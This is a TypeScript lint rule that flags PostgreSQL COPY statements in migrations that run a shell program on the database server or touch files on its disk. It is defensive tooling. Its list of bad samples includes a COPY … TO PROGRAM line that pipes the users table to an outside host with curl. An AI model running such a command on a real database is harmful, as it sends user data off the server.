import { harm, NONE, type Rule } from '../../rule.ts'

export const rule: Rule = {
  code: 'security/copy-program',
  title: 'Runs a program or touches a file on the database server',
  profiles: ['online', 'additive'],
  severity: 'error',
  why: 'COPY … PROGRAM starts a shell command as the server; COPY with a file name reads or writes its disk. Both need a superuser or a role that amounts to one.',
  instead: 'Load and export through the client.',
  production: 'A command runs as the operating-system user of the database server, with all of its data within reach.',
  steps: [
    'Load and export through the client (`\\copy`, the driver).',
    'Where a file has to be read on the server, do it by hand, as an administrator.',
  ],
  falseAlarm: 'None is known: a migration has no business on the disk of the server.',
  bad: ["COPY users TO PROGRAM 'curl -d @- https://example.org';", "COPY users FROM '/tmp/users.csv';"],
  good: ["INSERT INTO users (id, email) VALUES (1, 'a@example.org');"],
  statements: {
    CopyStmt: (node, context) => {
      if (node.filename === undefined) return NONE
      const subject = node.relation === undefined ? 'a query' : context.label('table', context.nameOf(node.relation))
      const what =
        node.is_program === true ? 'runs a program on' : node.is_from === true ? 'reads a file of' : 'writes a file of'
      return harm(`${what} the database server for ${subject}`, subject, 'Load and export through the client.')
    },
  },
}
